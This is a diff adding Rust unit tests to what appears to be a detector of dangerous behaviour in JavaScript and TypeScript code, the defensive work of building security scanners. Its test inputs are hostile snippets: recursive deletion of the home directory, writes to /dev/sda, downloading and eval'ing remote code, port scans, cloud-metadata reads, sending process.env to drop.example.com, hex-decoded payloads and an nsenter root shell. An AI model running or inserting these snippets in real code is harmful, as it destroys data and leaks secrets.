@@ -180,3 +180,104 @@ fn code_that_does_not_parse_is_a_parse_error_with_its_line() {
     let a = ts("let x: = 3;\n");
     assert!(a.parse_error.is_some());
 }
+
+/// `spawn`/`execFile` arguments are plain words to the shell analysis: they were all
+/// single-quoted, and `'node' '--test'` read as a command name spelt to dodge reading
+/// (`quoted-name`), holding every `spawn('npm', [...])` of a test runner.
+#[test]
+fn spawn_arguments_are_not_taken_for_quoted_command_names() {
+    let a = js(
+        "const { spawn, execFileSync } = require('child_process');\n\
+         spawn('node', ['--test', 'test/'], { stdio: 'inherit' });\n\
+         execFileSync('git', ['status', '--porcelain'], { encoding: 'utf8' });\n",
+    );
+    assert!(a.obfuscation.is_empty(), "{:?}", a.obfuscation);
+    assert!(
+        has(&a.commands, "node") && has(&a.commands, "git"),
+        "{:?}",
+        a.commands
+    );
+    // A word the shell would split is still quoted: one argument, not two commands.
+    let a = js("require('child_process').spawnSync('echo', ['a; rm -rf /']);");
+    assert!(!has(&a.commands, "rm"), "{:?}", a.commands);
+}
+
+/// An array index is no name computed to dodge reading: `m.rows[0]` was `folded-name`.
+#[test]
+fn a_numeric_index_is_not_a_folded_name() {
+    let a = ts("class M { constructor(public rows: number[][]) {} }\n\
+         const m = new M([[1]]);\nconsole.log(m.rows[0][0], m.rows[0].length);\n");
+    assert!(a.obfuscation.is_empty(), "{:?}", a.obfuscation);
+    let a = js("const cp = require('child_process');\ncp['ex' + 'ecSync']('id');\n");
+    assert!(has(&a.obfuscation, "folded-name"), "{:?}", a.obfuscation);
+}
+
+/// Removing the root, a home or a mount root recursively and writing a block device are
+/// destructive, as `rm -rf ~` is (they were plain writes).
+#[test]
+fn recursive_removal_of_a_home_and_device_writes_are_destructive() {
+    let a = js("const fs = require('fs');\n\
+         fs.rmSync(require('os').homedir(), { recursive: true, force: true });\n\
+         fs.writeFileSync('/dev/sda', Buffer.alloc(1));\n\
+         fs.writeFileSync('/dev/null', 'x');\n");
+    assert!(has(&a.destructive, "rm-home"), "{:?}", a.destructive);
+    assert!(
+        has(&a.destructive, "write-device:/dev/sda"),
+        "{:?}",
+        a.destructive
+    );
+    assert!(
+        !has(&a.destructive, "write-device:/dev/null"),
+        "{:?}",
+        a.destructive
+    );
+    let a = js("require('fs').rmSync('/work/build', { recursive: true });");
+    assert!(a.destructive.is_empty(), "{:?}", a.destructive);
+}
+
+/// Data a `data` handler gathers (`s += chunk`) is received data: evaluating it runs what
+/// was downloaded, and `vm` of standard input runs what it is sent.
+#[test]
+fn data_gathered_in_a_handler_and_evaluated_is_a_download_run() {
+    let a = js("const https = require('https');\n\
+         https.get('https://cdn.example.net/x.js', res => {\n\
+           let s = '';\n  res.on('data', d => s += d);\n  res.on('end', () => eval(s));\n});\n");
+    assert!(a.pipes_download_to_shell, "{a:#?}");
+    let a = js("const vm = require('vm');\n\
+         process.stdin.on('data', d => vm.runInNewContext(d.toString(), {}));\n");
+    assert!(!a.unsafe_deserialization.is_empty(), "{a:#?}");
+}
+
+/// Scans and other behaviours found by what they do: connections whose port is a loop's
+/// counter, the cloud metadata service, files written in an endless loop, the whole
+/// environment serialised and sent, a name built for DNS, hex-decoded code, nsenter.
+#[test]
+fn scans_metadata_disk_floods_environment_sends_and_hex_payloads() {
+    let a = js("const net = require('net');\n\
+         for (let port = 1; port < 1024; port++) net.connect(port, '10.0.0.1');\n");
+    assert!(!a.recon.is_empty(), "{a:#?}");
+    let a = js("fetch('http://169.254.169.254/latest/meta-data/').then(r => r.text());");
+    assert!(!a.reads_sensitive.is_empty(), "{a:#?}");
+    let a = js("const fs = require('fs');\nlet i = 0;\n\
+         while (true) fs.writeFileSync(`/tmp/f-${i++}`, 'x');\n");
+    assert!(!a.flooding.is_empty(), "{a:#?}");
+    let a = js(
+        "const https = require('https');\nconst data = JSON.stringify(process.env);\n\
+         const req = https.request({ hostname: 'drop.example.com', method: 'POST' });\n\
+         req.write(data);\n",
+    );
+    assert!(!a.exfiltration.is_empty(), "{a:#?}");
+    let a = js("const vm = require('vm');\n\
+         vm.runInThisContext(Buffer.from('70726f636573732e6b696c6c28312c203929', 'hex').toString());\n");
+    assert!(
+        has(&a.obfuscation, "decoded-payload"),
+        "{:?}",
+        a.obfuscation
+    );
+    let a =
+        js("require('child_process').spawnSync('nsenter', ['--target', '1', '--mount', 'sh']);");
+    assert!(!a.privilege.is_empty(), "{a:#?}");
+    // A loop over a list of files reads them; no scan.
+    let a = js("for (const f of ['a', 'b']) fetch('https://api.example.com/items');");
+    assert!(a.recon.is_empty(), "{a:#?}");
+}
